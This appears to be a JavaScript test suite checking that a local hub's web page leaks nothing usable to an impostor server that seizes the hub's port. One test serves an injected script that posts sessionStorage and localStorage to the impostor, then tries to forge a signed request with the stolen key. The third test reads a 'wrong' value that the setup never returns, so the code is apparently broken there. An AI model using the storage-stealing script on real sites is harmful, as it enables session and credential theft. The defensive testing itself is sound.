// A page that is left open when its hub ends, and another program that takes the hub's port.

import assert from "node:assert/strict";
import { createHash, createHmac } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { Hub, eventually } from "../outside/hub.mjs";
import { Browser, address } from "./browser.mjs";

// An impostor answers at the port of a hub as one that knows all that the hub says to everybody.
async function impostor(hub, known, page = "") {
  const heard = [];
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const some of request) body += some;
    heard.push({ method: request.method, path: request.url, headers: request.headers, body });
    if (page && !request.url.startsWith("/v1/") && request.url !== "/stolen") {
      response.writeHead(200, { "Content-Type": "text/html" });
      return response.end(page);
    }
    const result = request.url.includes("/proof") ? known.proof : request.url.startsWith("/v1/hub-info") ? known.info : [];
    response.writeHead(200, { "Content-Type": "application/json" });
    response.end(JSON.stringify({ ok: true, result }));
  });
  await eventually("the port is free", async () => {
    server.listen(hub.port, "127.0.0.1");
    return Promise.race([once(server, "listening"), once(server, "error").then(() => false)]).catch(() => false);
  });
  return {
    heard,
    end: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

// know asks the hub for all that an impostor can show in its place.
async function know(hub, pass_id) {
  const get = async (path) => (await (await fetch(hub.url + path)).json()).result;
  return { info: await get("/v1/hub-info"), proof: await get(`/v1/passes/${pass_id}/proof?nonce=0123456789abcdef0123456789abcdef`) };
}

describe("a page whose hub has lost its port", () => {
  let hub, browser;
  before(async () => {
    hub = await Hub.start();
    browser = await Browser.start();
  });
  after(async () => {
    await browser?.close();
    await hub?.close();
  });

  const open = async () => {
    const tab = await browser.tab();
    await tab.page.goto(await address(hub));
    await tab.page.getByText("connected", { exact: true }).waitFor();
    tab.kept = () => tab.page.evaluate(() => JSON.parse(sessionStorage.getItem("hubcli.pass")));
    return tab;
  };

  it("sends the impostor nothing but challenges, says so, and goes on when the hub is back", async () => {
    const { page, kept, close } = await open();
    const { pass_id } = await kept();
    const known = await know(hub, pass_id);
    await page.goto(`${hub.url}/ui/rooms`); // loaded anew: the pass comes back from the hub
    await page.getByText("connected", { exact: true }).waitFor();
    await hub.end("SIGKILL");
    const false_ = await impostor(hub, known);
    await page.getByText("Another program has the hub's port.").waitFor();
    await eventually("the page asks again", () => false_.heard.length >= 3);
    await page.getByRole("link", { name: "Now", exact: true }).click(); // what a person does meanwhile is not sent
    await page.getByRole("link", { name: "Settings", exact: true }).click();
    await eventually("the page asks again", () => false_.heard.length >= 5);
    for (const one of false_.heard) {
      assert.match(one.path, new RegExp(`^/v1/passes/${pass_id}/proof\\?nonce=[0-9a-f]{32}$`));
      assert.deepEqual([one.method, one.body, one.headers["x-hub-operator"], one.headers.cookie], ["GET", "", undefined, undefined]);
    }
    await false_.end();
    await hub.run();
    await page.getByText("connected", { exact: true }).waitFor({ timeout: 30_000 });
    await page.getByText("Another program has the hub's port.").waitFor({ state: "detached" });
    await hub.say("the hub is back");
    await page.getByRole("link", { name: "Now", exact: true }).click();
    await page.getByText("the hub is back").waitFor();
    await close();
  });

  it("has nothing that an impostor can use at the next run of the hub, even if it serves the page", async () => {
    const { page, kept, close } = await open();
    const { pass_id } = await kept();
    const known = await know(hub, pass_id);
    await hub.end("SIGKILL");
    const thief = `<script>fetch("/stolen", { method: "POST", body: JSON.stringify({ ...sessionStorage, ...localStorage }) })</script>`;
    const false_ = await impostor(hub, known, thief);
    await page.reload();
    const stolen = await eventually("the storage is stolen", () => false_.heard.find((one) => one.path === "/stolen"));
    const { run, key } = JSON.parse(JSON.parse(stolen.body)["hubcli.pass"]);
    await false_.end();
    await hub.run();

    const empty = createHash("sha256").digest("hex");
    const sign = (words) => createHmac("sha256", Buffer.from(key, "hex")).update(words.join("\n")).digest("hex");
    const words = [pass_id, "0123456789abcdef", "1"];
    const signed = ["signed", ...words, empty, sign(["hub-pass-call-1", ...words, "GET", "/v1/passes", empty])].join(" ");
    assert.equal(known.proof.run, run);
    const answer = await fetch(`${hub.url}/v1/passes`, { headers: { "X-Hub-Operator": signed } });
    assert.deepEqual([answer.status, (await answer.json()).code], [403, "pass_signature"]);

    await page.reload(); // the hub's page again, which has lost its pass and says so
    await page.getByText("the hub was started again meanwhile").waitFor();
    assert.equal(await page.evaluate(() => sessionStorage.length), 0);
    await close();
  });

  it("keeps its pass over restarts of the hub, also when it is loaded anew between them", async () => {
    const { page, wrong, close } = await open();
    for (let i = 0; i < 2; i++) {
      await page.reload();
      await page.getByText("connected", { exact: true }).waitFor();
      await hub.end("SIGKILL");
      await page.getByText("not connected", { exact: true }).waitFor({ timeout: 30_000 });
      await hub.run();
      await page.getByText("connected", { exact: true }).waitFor({ timeout: 30_000 });
    }
    assert.deepEqual(wrong.filter((said) => !said.includes("ERR_")), []);
    await close();
  });
});
